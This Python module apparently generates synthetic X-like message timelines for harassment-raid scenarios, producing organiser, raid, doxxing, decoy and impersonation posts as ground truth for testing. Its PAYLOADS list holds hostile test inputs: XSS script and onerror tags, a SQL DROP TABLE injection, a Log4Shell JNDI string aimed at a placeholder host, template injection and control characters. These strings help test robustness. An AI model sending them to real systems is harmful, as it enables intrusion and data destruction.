"""When each simulated message is posted, by whom, in reply to what: the schedule of a case.

:func:`build_plan` lays out every message of a scenario as rows of numpy columns (time, kind,
author, replied-to or quoted row, language, flags), sorted by time, with X-like ids that grow
with time. Bulk messages (baseline, raid, support) get their text later, when pages are
written; messages that the ground truth describes exactly (organisers' links, designating
posts, doxxing, decoys, impersonators, hostile payloads) get theirs here, as a
:class:`Special`. Status events (suspensions, deleted accounts and posts) come with it.

Rates follow the scenario: baseline with daily and weekly cycles, bursts that rise linearly
and decay exponentially (raid, support, TV appearance), and a soft daily cycle on the raid.

Example::

    plan = build_plan(scn, line, world)
    plan.t[:5], plan.kind[:5]
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np

from .people import DOXX_KINDS, doxx_text
from .scenario import RaidScenario, Timeline
from .text import BANKS, LANGUAGES, Bank, fill_gender
from .world import CAMPAIGN_ROLES, World

# Row kinds.
K_TARGET, K_BASE, K_CRITIC, K_RAID, K_SUPPORT, K_SPIKE, K_SPECIAL, K_EDIT = range(8)
# Relation of a row to its ``ref`` row.
REL_NONE, REL_REPLY, REL_QUOTE = 0, 1, 2
# Flags of bulk rows.
F_WAVE, F_TAG, F_LINK, F_RELATIVE, F_BYNAME, F_LINK2 = 1, 2, 4, 8, 16, 32

_TWITTER_EPOCH_MS = 1288834974657
_CODE_CHARS = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789"
_DAY = 86400.0
_HOUR = 3600.0

#: Hostile payloads: markup, scripts, RTL overrides, control characters, template syntax.
PAYLOADS = (
    "<script>alert('rempart')</script> {m} regarde ça",
    "<img src=x onerror=alert(1)> {m}",
    "\u202e{m} txet desrever\u202c fin",
    "\x1b[2J\x07 {m} bip \x1b[31mrouge\x1b[0m",
    "'; DROP TABLE messages; -- {m}",
    "{{7*7}} ${jndi:ldap://attaque.invalid/a} {m} a < b && c > d",
    "{m} z\u200be\u200br\u200bo width \u2066isolate\u2069 \ufeff",
)


@dataclass
class Special:
    """A message whose text the plan writes: the truth describes it exactly."""

    role: str  # organiser, designating, doxxing, decoy, impersonation, payload, announce
    text: str
    lang: str
    urls: dict[str, str] = field(default_factory=dict)  # t.co code -> expanded URL
    spans: list[tuple[int, int, str]] = field(default_factory=list)
    media: bool = False  # a screenshot attached
    long: bool = False  # beyond 280 characters: written as a note_tweet


@dataclass
class Plan:
    """The schedule: one row per message version, sorted by time."""

    t: np.ndarray  # float64 epoch seconds
    kind: np.ndarray  # int8, K_*
    author: np.ndarray  # int32 account index
    ref: np.ndarray  # int32 row replied to, quoted, or edited (-1)
    rel: np.ndarray  # int8, REL_*
    special: np.ndarray  # int32 index into specials (-1)
    lang: np.ndarray  # int8 index into LANGUAGES
    flags: np.ndarray  # uint8, F_*
    ids: np.ndarray  # int64 X-like ids
    specials: list[Special]
    events: list[tuple[float, str, int, str]]  # (time, "user"/"tweet", account or row, status)

    def __len__(self) -> int:
        return len(self.t)

    def rows_of(self, role: str) -> list[int]:
        """Rows whose special has ``role``, in time order."""
        rows = np.nonzero(self.special >= 0)[0]
        return [int(r) for r in rows if self.specials[self.special[r]].role == role]


class _Rows:
    """Blocks of rows appended in any order; sorted once at the end."""

    def __init__(self) -> None:
        self.cols: dict[str, list[np.ndarray]] = {
            k: [] for k in ("t", "kind", "author", "ref", "rel", "special", "lang", "flags")
        }
        self.n = 0
        self.specials: list[Special] = []

    def add(
        self,
        t: np.ndarray | float,
        kind: int,
        author: np.ndarray | int,
        ref: np.ndarray | int = -1,
        rel: np.ndarray | int = REL_NONE,
        lang: np.ndarray | int = 0,
        flags: np.ndarray | int = 0,
        special: Special | None = None,
    ) -> np.ndarray:
        """Append rows (scalars broadcast); return their row numbers."""
        t = np.atleast_1d(np.asarray(t, dtype=np.float64))
        n = len(t)
        sid = -1
        if special is not None:
            sid = len(self.specials)
            self.specials.append(special)
        for name, value, dtype in (
            ("t", t, np.float64),
            ("kind", kind, np.int8),
            ("author", author, np.int32),
            ("ref", ref, np.int32),
            ("rel", rel, np.int8),
            ("special", sid, np.int32),
            ("lang", lang, np.int8),
            ("flags", flags, np.uint8),
        ):
            self.cols[name].append(np.broadcast_to(np.asarray(value, dtype=dtype), (n,)).copy())
        rows = np.arange(self.n, self.n + n)
        self.n += n
        return rows

    def column(self, name: str) -> np.ndarray:
        return np.concatenate(self.cols[name]) if self.cols[name] else np.zeros(0)


def tco_code(rng: random.Random) -> str:
    """The path of a t.co short link (ten letters and digits)."""
    return "".join(rng.choice(_CODE_CHARS) for _ in range(10))


# --------------------------------------------------------------------------- rate profiles


def daily(scn: RaidScenario, t: np.ndarray) -> np.ndarray:
    """Relative activity at epoch seconds ``t``: night lows at 4 a.m. local, quieter weekends."""
    local = t / _HOUR + scn.utc_offset_hours
    hour = np.mod(local, 24.0)
    wave = ((1 - np.cos(2 * np.pi * (hour - 4) / 24)) / 2) ** 1.5
    weekday = np.mod(np.floor(local / 24) + 3, 7)  # 1970-01-01 was a Thursday
    week = np.where(weekday >= 5, scn.weekend_factor, 1.0)
    return (scn.night_floor + (1 - scn.night_floor) * wave) * week


def burst(
    t: np.ndarray, start: float, rise_minutes: float, decay_hours: float, end: float
) -> np.ndarray:
    """A burst's shape: zero before ``start``, linear rise, exponential decay, zero after."""
    x = (t - start) / _HOUR
    rise = rise_minutes / 60
    up = np.clip(x / rise, 0, 1)
    down = np.exp(-np.clip(x - rise, 0, None) / decay_hours)
    return np.where((x >= 0) & (t < end), up * down, 0.0)


def sample_times(
    rng: np.random.Generator,
    weight: Callable[[np.ndarray], np.ndarray],
    start: float,
    end: float,
    n: int,
) -> np.ndarray:
    """``n`` times in [start, end) distributed as ``weight`` (minute resolution), sorted."""
    if n <= 0 or end <= start:
        return np.zeros(0)
    edges = np.arange(start, end, 60.0)
    w = weight(edges + 30.0)
    if w.sum() <= 0:
        w = np.ones_like(edges)
    counts = rng.multinomial(n, w / w.sum())
    t = np.repeat(edges, counts) + rng.random(n) * 60.0
    return np.sort(np.minimum(t, end - 0.001))


# --------------------------------------------------------------------------- the plan


class _Planner:
    """Builds a plan step by step (each step adds one population's rows)."""

    def __init__(self, scn: RaidScenario, line: Timeline, world: World) -> None:
        self.scn, self.line, self.world = scn, line, world
        self.rng = np.random.default_rng(scn.seed * 7 + 3)
        self.prng = random.Random(scn.seed * 13 + 5)
        self.rows = _Rows()
        self.acc_lang = np.array([LANGUAGES.index(a.lang) for a in world.accounts], dtype=np.int8)
        self.target = world.accounts[world.targets[0]]
        self.target_t = np.zeros(0)
        self.target_rows = np.zeros(0, dtype=np.int64)
        self.desig_t = np.zeros(0)
        self.desig_rows = np.zeros(0, dtype=np.int64)
        self.desig_author: dict[int, int] = {}

    # -- helpers
    def lang_of(self, account: int) -> str:
        return LANGUAGES[int(self.acc_lang[account])]

    def bank(self, account: int) -> Bank:
        return BANKS[self.lang_of(account)]

    def fill(self, bank: Bank, mention: str | None = None) -> dict[str, str]:
        p = self.world.people[0]
        words = fill_gender(bank, self.scn.target_gender, self.prng)
        return {
            **words,
            "m": mention or f"@{self.target.handle}",
            "n": p.first,
            "N": f"{p.first} {p.last}",
            "topic": self.prng.choice(bank.topics),
            "tag": f"#{self.world.raid_tags[0]}",
            "show": self.world.show,
            "outlet": self.world.outlet,
            "stag": f"#{self.world.support_tag}",
        }

    def code(self) -> str:
        return tco_code(self.prng)

    def weighted(self, pool: np.ndarray, weights: np.ndarray | None, n: int) -> np.ndarray:
        if n <= 0 or len(pool) == 0:
            return np.zeros(0, dtype=np.int32)
        return self.rng.choice(pool, size=n, p=weights)

    def latest_target_post(self, t: np.ndarray, within: float) -> np.ndarray:
        """The target's latest post before each time (row number), or -1 if none recent."""
        i = np.searchsorted(self.target_t, t) - 1
        ok = (i >= 0) & (t - self.target_t[np.maximum(i, 0)] < within)
        return np.where(ok, self.target_rows[np.maximum(i, 0)], -1)

    def designating_before(self, t: np.ndarray) -> np.ndarray:
        """A designating post published before each time (row number), or -1."""
        avail = np.searchsorted(self.desig_t, t)
        pick = (self.rng.random(len(t)) ** 2 * avail).astype(np.int64)
        ok = avail > 0
        return (
            np.where(ok, self.desig_rows[np.minimum(pick, max(len(self.desig_rows) - 1, 0))], -1)
            if len(self.desig_rows)
            else np.full(len(t), -1)
        )

    def base_weight(self, t: np.ndarray) -> np.ndarray:
        return daily(self.scn, t)

    def raid_weight(self, t: np.ndarray) -> np.ndarray:
        line, scn = self.line, self.scn
        shape = burst(
            t, line.raid_start, scn.raid_rise_minutes, scn.raid_decay_hours, line.raid_end
        )
        return shape * (0.55 + 0.45 * daily(scn, t))

    # -- populations
    def target_posts(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        times = [
            sample_times(
                self.rng,
                self.base_weight,
                line.t0,
                line.end,
                int(self.rng.poisson(scn.target_posts_per_day * scn.days)),
            )
        ]
        trigger = line.raid_start - self.rng.uniform(1, 20) * _HOUR
        times.append(np.array([max(trigger, line.t0 + 600)]))
        t = np.sort(np.concatenate(times))
        rows = self.rows.add(t, K_TARGET, world.targets[0], lang=self.acc_lang[world.targets[0]])
        self.target_t, self.target_rows = t, rows
        self.trigger_row = int(rows[np.searchsorted(t, max(trigger, line.t0 + 600))])
        if len(world.targets) > 1:
            second = world.targets[1]
            t2 = sample_times(
                self.rng,
                self.base_weight,
                line.t0,
                line.end,
                int(self.rng.poisson(self.rng.uniform(0.3, 1.0) * scn.days)),
            )
            self.rows.add(t2, K_TARGET, second, lang=self.acc_lang[second])

    def baseline(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        n = int(round(scn.baseline_per_day * scn.days))
        n_critic = int(round(n * scn.critic_share))
        t = sample_times(self.rng, self.base_weight, line.t0, line.end, n - n_critic)
        authors = self.weighted(world.regulars, world.regular_weights, len(t))
        parent = self.latest_target_post(t, 2 * _DAY)
        reply = (self.rng.random(len(t)) < 0.25) & (parent >= 0)
        flags = np.zeros(len(t), dtype=np.uint8)
        u = self.rng.random(len(t))
        flags[(u < 0.05) & ~reply] |= F_BYNAME
        if len(world.targets) > 1:
            flags[(u > 0.85) & ~reply] |= F_RELATIVE
        self.baseline_block = len(self.rows.cols["t"])
        self.rows.add(
            t,
            K_BASE,
            authors,
            np.where(reply, parent, -1),
            np.where(reply, REL_REPLY, REL_NONE),
            self.acc_lang[authors],
            flags,
        )
        tc = sample_times(self.rng, self.base_weight, line.t0, line.end, n_critic)
        critics = self.weighted(world.critics, None, len(tc))
        self.rows.add(tc, K_CRITIC, critics, lang=self.acc_lang[critics])

    def organisers(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        lead = scn.origin_lead_minutes * 60
        first = line.raid_start - lead
        texts: dict[str, list[str]] = {}
        for k, account in enumerate(world.organisers):
            t = first if k == 0 else first + self.rng.uniform(0, lead - 300)
            url = world.origin_urls[0]
            if k == 1 and len(world.origin_urls) > 1:
                url = world.origin_urls[1]
                t = line.raid_start - self.rng.uniform(5, lead / 2)
            bank = self.bank(account)
            code = self.code()
            text = _distinct(self.prng, bank.organiser, texts.setdefault(bank.lang, [])).format(
                link=f"https://t.co/{code}"
            )
            if self.prng.random() < 0.3:
                text = f"@{self.target.handle} {text}"
            if self.prng.random() < 0.4:
                text += f" #{world.raid_tags[0]}"
            self.rows.add(
                t,
                K_SPECIAL,
                account,
                lang=self.acc_lang[account],
                special=Special("organiser", text, bank.lang, {code: url}),
            )

    def designating(self) -> None:
        line, world = self.line, self.world
        span = line.raid_end - line.raid_start
        times, rows = [], []
        kinds = ["quote", "screenshot", "mention"]
        texts: dict[str, list[str]] = {}
        for k, account in enumerate(world.designators):
            if k == 0:
                t = line.raid_start - self.rng.uniform(3, 25) * 60
                kind = self.prng.choice(("quote", "screenshot"))
            else:
                t = line.raid_start + self.rng.uniform(0.05, 0.3) * span
                kind = self.prng.choice(kinds)
            bank = self.bank(account)
            text = _distinct(self.prng, bank.designating, texts.setdefault(bank.lang, [])).format(
                **self.fill(bank)
            )
            text = text[0].upper() + text[1:]
            if kind == "mention":
                text = f"@{self.target.handle} {text}"
            if self.prng.random() < 0.3:
                text += f" #{world.raid_tags[0]}"
            ref, rel = (self.trigger_row, REL_QUOTE) if kind == "quote" else (-1, REL_NONE)
            row = int(
                self.rows.add(
                    t,
                    K_SPECIAL,
                    account,
                    ref,
                    rel,
                    self.acc_lang[account],
                    special=Special("designating", text, bank.lang, media=kind == "screenshot"),
                )[0]
            )
            rows.append(row)
            times.append(t)
            self.desig_author[row] = account
        order = np.argsort(times)
        self.desig_t = np.asarray(times)[order]
        self.desig_rows = np.asarray(rows, dtype=np.int64)[order]

    def raid(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        chain_posts = self.chains()
        specials = scn.doxxing + int(scn.doxxing_decoys * 0.2)
        n = max(scn.raid_messages - chain_posts - specials, 0)
        t = sample_times(self.rng, self.raid_weight, line.raid_start, line.raid_end, n)
        pool = world.raiders
        if n >= len(pool):
            authors = np.concatenate(
                [
                    self.rng.permutation(pool),
                    self.weighted(pool, world.raider_weights, n - len(pool)),
                ]
            )
            authors = self.rng.permutation(authors)
        else:
            authors = self.weighted(pool, world.raider_weights, n)
        self.raid_rows = self._raid_rows(t, authors)

    def _raid_rows(self, t: np.ndarray, authors: np.ndarray) -> np.ndarray:
        """Raid messages: replies and quotes under designating posts, replies to the target."""
        scn = self.scn
        u = self.rng.random(len(t))
        desig = self.designating_before(t)
        target_post = self.latest_target_post(t, 3 * _DAY)
        reply = (u < scn.reply_share) & (desig >= 0)
        quote = (u >= scn.reply_share) & (u < scn.reply_share + scn.quote_share) & (desig >= 0)
        to_target = (
            (u >= scn.reply_share + scn.quote_share)
            & (u < scn.reply_share + scn.quote_share + scn.target_reply_share)
            & (target_post >= 0)
        )
        ref = np.where(reply | quote, desig, np.where(to_target, target_post, -1))
        rel = np.where(reply | to_target, REL_REPLY, np.where(quote, REL_QUOTE, REL_NONE))
        flags = np.zeros(len(t), dtype=np.uint8)
        v = self.rng.random((4, len(t)))
        flags[v[0] < scn.copy_share] |= F_WAVE
        flags[v[1] < scn.hashtag_share] |= F_TAG
        link = v[2] < scn.link_share
        second = link & (v[3] < 0.3) if len(self.world.origin_urls) > 1 else np.zeros_like(link)
        flags[link & ~second] |= F_LINK
        flags[second] |= F_LINK2
        if len(self.world.targets) > 1:
            flags[(v[3] > 1 - scn.mention_relative_share) & ~reply & ~quote] |= F_RELATIVE
        return self.rows.add(t, K_RAID, authors, ref, rel, self.acc_lang[authors], flags)

    def chains(self) -> int:
        """Posts of ban-evasion chains, each member within its own active period."""
        line, world = self.line, self.world
        total = 0
        self.chain_rows: list[np.ndarray] = []
        for chain in world.chains:
            for k, member in enumerate(chain.members):
                begin = line.raid_start if k == 0 else chain.resumes[k - 1]
                begin = max(begin, world.accounts[member].created + 300)
                end = (
                    chain.stops[k] - self.rng.uniform(5, 60) * 60
                    if k < len(chain.stops)
                    else chain.last_until
                )
                n = int(self.rng.integers(3, 13))
                t = np.sort(begin + self.rng.random(n) * max(end - begin, 60.0))
                if k > 0:
                    t[0] = begin  # resumes exactly then
                self.chain_rows.append(self._raid_rows(t, np.full(n, member, dtype=np.int32)))
                total += n
        for account, first in world.newcomers:
            n = int(self.rng.integers(2, 7))
            t = np.sort(first + self.rng.random(n) * self.rng.uniform(2, 24) * _HOUR)
            t = t[t < line.end - 60]
            if not len(t):
                continue
            authors = np.full(len(t), account, dtype=np.int32)
            if world.accounts[account].role in CAMPAIGN_ROLES:
                self._raid_rows(t, authors)
                total += len(t)
            else:
                self.rows.add(t, K_BASE, authors, lang=self.acc_lang[account])
        return total

    def doxxing(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        span = line.raid_end - line.raid_start
        t = line.raid_start + span * self.rng.beta(1.3, 3.0, scn.doxxing)
        authors = self.weighted(world.raiders, None, scn.doxxing)
        for when, author in zip(t, authors):
            lang = self.lang_of(author) if self.lang_of(author) in ("fr", "en") else "fr"
            k = 1 if self.prng.random() < 0.75 else 2
            kinds = tuple(self.prng.sample(DOXX_KINDS, k))
            about_relative = self.prng.random() < 0.3 and "school" not in kinds
            body, spans = doxx_text(
                self.prng, lang, world.people[0], world.relative, kinds, about_relative
            )
            u = self.prng.random()
            ref, rel, prefix = -1, REL_NONE, ""
            desig = int(self.designating_before(np.array([when]))[0])
            if u < 0.25 and desig >= 0:
                ref, rel = desig, REL_REPLY
                prefix = f"@{world.accounts[self.desig_author[desig]].handle} "
            elif u < 0.85:
                prefix = f"@{self.target.handle} "
            tail = ""
            if self.prng.random() < 0.5:
                threat = self.prng.choice(BANKS[lang].threats)
                tail += (" " if body.endswith((".", "!", "?")) else ". ") + threat.capitalize()
            if self.prng.random() < 0.4 or not prefix:
                tail += f" #{self.prng.choice(world.raid_tags)}"
            shifted = [(a + len(prefix), b + len(prefix), kind) for a, b, kind in spans]
            self.rows.add(
                when,
                K_SPECIAL,
                author,
                ref,
                rel,
                LANGUAGES.index(lang),
                special=Special("doxxing", prefix + body + tail, lang, spans=shifted),
            )

    def decoys(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        n_raid = int(scn.doxxing_decoys * 0.2)
        n_support = int(scn.doxxing_decoys * 0.25) if line.support else 0
        n_base = scn.doxxing_decoys - n_raid - n_support
        groups = [
            (
                sample_times(self.rng, self.base_weight, line.t0, line.end, n_base),
                self.weighted(world.regulars, world.regular_weights, n_base),
                "decoys",
            )
        ]
        if line.support:
            s, _, e = line.support
            groups.append(
                (
                    s + self.rng.random(n_support) * (e - s),
                    self.weighted(
                        world.supporters if len(world.supporters) else world.regulars,
                        None,
                        n_support,
                    ),
                    "decoys",
                )
            )
        span = line.raid_end - line.raid_start
        groups.append(
            (
                line.raid_start + self.rng.random(n_raid) * span,
                self.weighted(world.raiders, None, n_raid),
                "raid_decoys",
            )
        )
        for times, authors, field_name in groups:
            for when, author in zip(times, authors):
                bank = self.bank(int(author))
                text = self.prng.choice(getattr(bank, field_name)).format(
                    **self.fill(bank), url="{url}"
                )
                urls = {}
                if "{url}" in text:
                    code = self.code()
                    urls[code] = self.prng.choice(world.news_urls)
                    text = text.replace("{url}", f"https://t.co/{code}")
                self.rows.add(
                    when,
                    K_SPECIAL,
                    author,
                    lang=self.acc_lang[author],
                    special=Special("decoy", text, bank.lang, urls),
                )

    def impersonators(self) -> None:
        line, world = self.line, self.world
        for account, which in world.impersonators:
            acc = world.accounts[account]
            n = int(self.rng.integers(2, 7))
            begin = acc.created + self.rng.uniform(600, 2 * _HOUR)
            end = min(line.raid_end + _DAY, line.end - 60)
            t = np.sort(begin + self.rng.random(n) * max(end - begin, 60.0))
            bank = BANKS[acc.lang]
            for when in t:
                text = self.prng.choice(bank.impersonation).format(**self.fill(bank))
                parent = int(self.latest_target_post(np.array([when]), 3 * _DAY)[0])
                ref, rel = -1, REL_NONE
                if which == 0 and parent >= 0 and self.prng.random() < 0.4:
                    ref, rel = parent, REL_REPLY
                    text = f"@{self.target.handle} {text}"
                self.rows.add(
                    when,
                    K_SPECIAL,
                    account,
                    ref,
                    rel,
                    self.acc_lang[account],
                    special=Special("impersonation", text, bank.lang),
                )

    def support(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        if not line.support:
            return
        s, _, e = line.support

        def shape(t: np.ndarray) -> np.ndarray:
            return burst(t, s, scn.support_rise_minutes, scn.support_decay_hours, e) * (
                0.55 + 0.45 * daily(scn, t)
            )

        t = sample_times(self.rng, shape, s, e, scn.support_messages)
        pool = world.supporters if len(world.supporters) else world.regulars
        authors = np.where(
            self.rng.random(len(t)) < 0.7,
            self.weighted(pool, None, len(t)),
            self.weighted(world.regulars, world.regular_weights, len(t)),
        )
        parent = self.latest_target_post(t, 2 * _DAY)
        reply = (self.rng.random(len(t)) < 0.15) & (parent >= 0)
        self.rows.add(
            t,
            K_SUPPORT,
            authors,
            np.where(reply, parent, -1),
            np.where(reply, REL_REPLY, REL_NONE),
            self.acc_lang[authors],
        )

    def spike(self) -> None:
        scn, line, world = self.scn, self.line, self.world
        if not line.spike:
            return
        s, _, e = line.spike
        bank = BANKS[self.target.lang]
        announce = {
            "fr": "Ce soir je serai sur le plateau de {show}, on y débattra sur {topic}.",
            "en": "Tonight I'm on {show} to talk about {topic}.",
        }[self.target.lang]
        self.rows.add(
            s - self.rng.uniform(1, 4) * _HOUR,
            K_TARGET,
            world.targets[0],
            lang=self.acc_lang[world.targets[0]],
            special=Special("announce", announce.format(**self.fill(bank)), bank.lang),
        )

        def shape(t: np.ndarray) -> np.ndarray:
            return burst(t, s, 15, scn.spike_decay_hours, e)

        t = sample_times(self.rng, shape, s, e, scn.spike_messages)
        pool = world.viewers if len(world.viewers) else world.regulars
        authors = np.where(
            self.rng.random(len(t)) < 0.6,
            self.weighted(pool, None, len(t)),
            self.weighted(world.regulars, world.regular_weights, len(t)),
        )
        self.rows.add(t, K_SPIKE, authors, lang=self.acc_lang[authors])

    def payloads(self) -> None:
        """Turn a few baseline messages into hostile payloads (markup, RTL, very long text)."""
        n = self.scn.hostile_payloads
        if n <= 0:
            return
        kind = self.rows.cols["kind"][self.baseline_block]
        special = self.rows.cols["special"][self.baseline_block]
        candidates = np.nonzero(self.rows.cols["rel"][self.baseline_block] == REL_NONE)[0]
        chosen = self.rng.choice(candidates, size=min(n, len(candidates)), replace=False)
        mention = f"@{self.target.handle}"
        for j, row in enumerate(sorted(int(c) for c in chosen)):
            if j == len(PAYLOADS):
                text = f"{mention} " + "très long message " * 1200 + "fin"
                long = True
            else:
                text = PAYLOADS[j % len(PAYLOADS)].replace("{m}", mention).replace("{{", "{")
                long = False
            sid = len(self.rows.specials)
            self.rows.specials.append(Special("payload", text, "fr", long=long))
            kind[row] = K_SPECIAL
            special[row] = sid


def _distinct(rng: random.Random, templates: tuple[str, ...], used: list[str]) -> str:
    """A template not used yet by this group of writers (any once all are used)."""
    fresh = [t for t in templates if t not in used] or list(templates)
    choice = rng.choice(fresh)
    used.append(choice)
    return choice


def build_plan(scn: RaidScenario, line: Timeline, world: World) -> Plan:
    """Every message of ``scn`` in time order, with status events (see the module docstring)."""
    p = _Planner(scn, line, world)
    p.target_posts()
    p.baseline()
    p.organisers()
    p.designating()
    p.raid()
    p.doxxing()
    p.decoys()
    p.impersonators()
    p.support()
    p.spike()
    p.payloads()
    return _finish(p)


def _finish(p: _Planner) -> Plan:
    """Suspensions, deletions and edits; then sort by time and give ids."""
    rows = p.rows
    t, kind, author = rows.column("t"), rows.column("kind"), rows.column("author")
    lang = rows.column("lang")
    events = _stops(p, t, author)
    stopped = {a for _, typ, a, _ in events if typ == "user"}
    deleted = _deletions(p, t, kind)
    for row, when in _edits(p, t, kind, author, stopped, {row for _, row in deleted}):
        rows.add(when, K_EDIT, int(author[row]), row, REL_NONE, int(lang[row]))
    t = rows.column("t")
    order = np.argsort(t, kind="stable")
    position = np.empty_like(order)
    position[order] = np.arange(len(order))
    ref = rows.column("ref").astype(np.int64)
    ref = np.where(ref >= 0, position[np.maximum(ref, 0)], -1)[order].astype(np.int32)
    ts = t[order]
    ms = np.floor(ts * 1000).astype(np.int64) - _TWITTER_EPOCH_MS
    ids = (ms << 22) | ((np.arange(len(ts), dtype=np.int64) * 2654435761) & 0x3FFFFF)
    for when, row in deleted:
        events.append((when, "tweet", int(position[row]), "deleted"))
    events.sort(key=lambda e: (e[0], e[1], e[2]))
    return Plan(
        t=ts,
        kind=rows.column("kind")[order].astype(np.int8),
        author=rows.column("author")[order].astype(np.int32),
        ref=ref,
        rel=rows.column("rel")[order].astype(np.int8),
        special=rows.column("special")[order].astype(np.int32),
        lang=rows.column("lang")[order].astype(np.int8),
        flags=rows.column("flags")[order].astype(np.uint8),
        ids=ids,
        specials=rows.specials,
        events=events,
    )


def _stops(p: _Planner, t: np.ndarray, author: np.ndarray) -> list[tuple[float, str, int, str]]:
    """Chain stops, and raiders suspended without a successor (after their last post)."""
    events: list[tuple[float, str, int, str]] = []
    for chain in p.world.chains:
        for member, when, status in zip(chain.members, chain.stops, chain.statuses):
            events.append((when, "user", member, status))
    last = np.full(len(p.world.accounts), -np.inf)
    np.maximum.at(last, author, t)
    keep = set(p.world.organisers) | {a for pair in p.world.similar_pairs for a in pair}
    candidates = [
        int(a) for a in np.unique(author[np.isin(author, p.world.raiders)]) if int(a) not in keep
    ]
    n = min(p.scn.lone_suspensions, len(candidates))
    for a in p.rng.choice(candidates, size=n, replace=False) if n else ():
        when = float(last[a]) + p.rng.uniform(15 * 60, 6 * _HOUR)
        if when < p.line.end:
            events.append((when, "user", int(a), "suspended"))
    return events


def _deletions(p: _Planner, t: np.ndarray, kind: np.ndarray) -> list[tuple[float, int]]:
    window = p.scn.window_minutes * 60 + p.scn.retrieval_delay_minutes * 60
    candidates = np.nonzero((kind == K_RAID) & (t < p.line.end - 13 * _HOUR))[0]
    n = min(p.scn.deletions, len(candidates))
    out = []
    for row in sorted(int(r) for r in p.rng.choice(candidates, size=n, replace=False)):
        out.append((float(t[row]) + window + p.rng.uniform(600, 12 * _HOUR), row))
    return out


def _edits(
    p: _Planner,
    t: np.ndarray,
    kind: np.ndarray,
    author: np.ndarray,
    stopped: set[int],
    gone: set[int],
) -> list[tuple[int, float]]:
    ok = ((kind == K_BASE) | (kind == K_RAID)) & (t < p.line.end - _HOUR)
    ok &= ~np.isin(author, np.fromiter(stopped, dtype=np.int64, count=len(stopped)))
    candidates = [int(r) for r in np.nonzero(ok)[0] if int(r) not in gone]
    n = min(p.scn.edits, len(candidates))
    chosen = sorted(int(r) for r in p.rng.choice(candidates, size=n, replace=False)) if n else []
    return [(row, float(t[row]) + p.rng.uniform(120, 55 * 60)) for row in chosen]
